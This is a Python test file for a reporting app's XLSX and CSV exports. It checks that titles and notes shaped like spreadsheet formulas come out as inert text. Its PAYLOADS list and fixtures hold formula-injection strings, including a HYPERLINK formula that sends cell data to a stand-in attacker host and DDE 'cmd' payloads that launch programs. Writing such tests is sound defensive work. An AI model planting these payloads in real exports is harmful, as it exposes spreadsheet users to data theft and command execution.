"""Exports as weapons: a title, note or task name written like a spreadsheet formula comes out of
the XLSX and the CSV as inert text (a leading single quote, as OWASP recommends), while numbers
and dates stay typed."""
import csv
import io
from datetime import date, datetime

import openpyxl

from tests.factories import HAI_PHONG, make_activity, make_plan, make_task, token
from tests.reports_helpers import commune_of, province_with_activities

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _hostile(session, reporter, commune):
    plan = make_plan(session, HAI_PHONG, title="=cmd|' /C notepad'!A0")
    task = make_task(session, plan, unit_ids=(commune.id,), title="@Nhiệm vụ bị đầu độc")
    for i, text in enumerate(PAYLOADS):
        make_activity(session, commune.id, user=reporter, type="broadcast", status="approved", title=text,
                      notes=text, airings=2 + i, minutes_per_airing=15, start_date=date(2026, 3, 10 + i),
                      task_ids=(task.id,), details={"channel": "commune_loudspeaker", "programme": "=1+2"},
                      cost_local_vnd=1000 * (i + 1))


def test_no_cell_of_the_workbook_is_a_formula_and_numbers_and_dates_stay_typed(client, session):
    p = province_with_activities(session)
    _hostile(session, p.reporter, p.commune)
    response = client.get("/api/v1/reports/activities.xlsx", headers=token(client, p.reviewer))
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    for text in PAYLOADS + ["@Nhiệm vụ bị đầu độc"]:
        assert "'" + text in texts
    rows = list(wb["Phát thanh"].iter_rows(values_only=True))
    headers = rows[3]
    table = [dict(zip(headers, r)) for r in rows[4:] if any(v is not None for v in r)]
    hostile = next(r for r in table if r["Tên hoạt động"] == "'-2+3")
    assert hostile["Số lần phát"] == 4 and isinstance(hostile["Ngày bắt đầu"], datetime)
    assert hostile["Ngân sách địa phương (đồng)"] == 3000


def test_the_csv_carries_the_same_text_inert(client, session):
    p = province_with_activities(session)
    _hostile(session, p.reporter, p.commune)
    response = client.get("/api/v1/reports/activities.csv", params={"type": "broadcast"},
                          headers=token(client, p.reviewer))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [c for r in rows for c in r]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), \
        [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    table = [dict(zip(rows[2], r)) for r in rows[3:]]
    hostile = next(r for r in table if r["Tên hoạt động"] == "'-2+3")
    assert hostile["Số lần phát"] == "4" and hostile["Ngày bắt đầu"] == "12/03/2026"
    assert hostile["Ngân sách địa phương (đồng)"] == "3000"
    assert {r["Tên hoạt động"] for r in table} >= {"'" + t for t in PAYLOADS}
